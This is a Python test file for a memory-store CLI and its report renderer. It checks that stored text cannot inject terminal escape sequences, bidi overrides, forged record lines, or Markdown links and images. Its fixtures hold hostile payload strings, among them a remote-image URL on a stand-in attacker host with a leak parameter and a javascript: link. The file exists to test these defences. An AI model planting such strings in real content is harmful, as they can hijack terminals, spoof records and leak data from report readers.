"""What reports and the CLI show people: store text is shown, never interpreted — no terminal
control or bidi characters, no Markdown links or images, no forged lines (cases a review
reproduced; each failed before its fix)."""

from __future__ import annotations

import re

from gc_worker import render
from gc_worker.cli import main
from tests.store import NOW, add, days_ago, run

NOW_ARG = NOW.isoformat()


def _run_id(out: str) -> str:
    return out.split("run ", 1)[1].split(" ", 1)[0]


HOSTILE = (
    "Diet: vegan\n    00000000-0000-4000-8000-000000000000  [active]  forged member line"
    "\x1b[2K\x1b]0;owned\x07\x1b[31mRED\u202egnp.exe"
)
_UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


class TestControlCharactersInCliOutput:
    def test_reviews_list_cannot_be_forged_or_drive_the_terminal(self, engine, cli_env, capsys):
        """`reviews list` prints left(content, 200) raw: a memory's text adds lines that look
        like members of the item (a fake id an operator may pass to --keep) and sends ESC
        sequences (set title, erase line, colours) and bidi overrides to the operator's terminal."""
        add(engine, "u1", "Diet: vegetarian", slot="diet", created_at=days_ago(90))
        add(engine, "u1", HOSTILE, slot="diet", created_at=days_ago(1), source="model_inference")
        assert main(["run", "--job", "contradiction", "--now", NOW_ARG]) == 0
        capsys.readouterr()
        assert main(["reviews", "list"]) == 0
        out = capsys.readouterr().out
        assert len(out.splitlines()) == 3, out  # one head line, one line per member (2)
        assert not _UNSAFE.search(out), repr(out)

    def test_markdown_report_on_stdout_carries_no_terminal_escapes(self, engine, cli_env, capsys):
        """`memory-gc report RUN --format md` (to a terminal) passes ESC sequences and bidi
        overrides from memory content through unchanged (JSON escapes them, HTML is a file)."""
        add(engine, "u1", HOSTILE, expires_at=days_ago(1))
        assert main(["run", "--job", "ttl_expiry", "--now", NOW_ARG]) == 0
        run_id = _run_id(capsys.readouterr().out)
        assert main(["report", run_id, "--format", "md"]) == 0
        md = capsys.readouterr().out
        assert "forged member line" in md  # the content preview is there
        assert not _UNSAFE.search(md), repr(_UNSAFE.findall(md))


class TestMarkdownInjection:
    def test_content_cannot_make_links_or_remote_images(self, engine, settings):
        """Markdown escapes only `|`, newlines and angle brackets: a memory's text becomes a live
        remote image (fetched when the report is opened in any Markdown viewer: a tracking
        pixel, an exfiltration URL) and a clickable javascript:/phishing link in the report."""
        hostile = ("![pixel](https://attacker.example/p.png?leak=1) "
                   "[open the admin console](javascript:alert(document.domain))")  # fmt: skip
        add(engine, "u1", hostile, expires_at=days_ago(1))
        report = run(engine, settings, jobs=["ttl_expiry"])
        md = render.render(report, "md")
        assert "attacker.example" in md  # the preview is shown…
        assert not re.search(r"(?<!\\)!?(?<!\\)\[[^\]]*(?<!\\)\]\(", md), md  # …but no link/image
